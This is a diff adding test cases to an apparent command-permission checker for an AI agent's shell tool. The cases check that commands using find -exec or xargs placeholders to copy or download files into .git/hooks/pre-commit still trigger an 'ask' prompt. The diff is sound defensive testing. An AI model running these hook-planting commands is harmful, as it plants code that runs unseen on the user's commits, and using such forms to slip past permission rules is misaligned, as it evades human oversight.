@@ -3611,6 +3611,19 @@ async fn downloads_archives_and_patches_past_their_odd_spellings() {
             "ask",
             "echo https://e.com | xargs curl -o .git/hooks/pre-commit",
         ),
+        // Nor do the words around a placeholder filled in place.
+        bypass(
+            "ask",
+            "find . -name x -exec cp {} .git/hooks/pre-commit \\;",
+        ),
+        bypass("ask", "ls | xargs -I {} cp {} .git/hooks/pre-commit"),
+        bypass("allow", "find . -name '*.rs' -exec cp {} src/ \\;"),
+        case(
+            "allow",
+            "Bash",
+            "find . -name '*.rs' -exec grep -n main {} \\;",
+        )
+        .allow(&["Bash(find:*)", "Bash(grep:*)"]),
         // Writing to /dev/null needs nothing.
         allowed(
             "allow",
